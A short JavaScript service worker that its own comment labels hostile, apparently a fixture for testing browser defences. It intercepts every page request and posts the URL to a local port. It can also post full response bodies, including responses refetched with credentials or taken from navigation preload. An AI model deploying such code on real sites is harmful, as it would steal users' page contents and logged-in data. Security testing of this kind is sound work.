// The service worker of a hostile program, which sends what it sees to a port of this computer.
const [port, manner] = decodeURIComponent(location.search.slice(1)).split("&");
const send = (body) => fetch(`http://127.0.0.1:${port}/`, { method: "POST", mode: "no-cors", body });
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(Promise.all([
  self.clients.claim(),
  manner === "preloaded" && self.registration.navigationPreload.enable(),
])));
self.addEventListener("fetch", (event) => {
  const { request } = event;
  send(request.url);
  if (manner === "watched") return;
  event.respondWith((async () => {
    const preloaded = manner === "preloaded" && (await event.preloadResponse);
    const again = () => fetch(request.url, { credentials: "include" });
    const answer = preloaded || (await (manner === "again" ? again() : fetch(request)));
    send(await answer.clone().text());
    return answer;
  })());
});
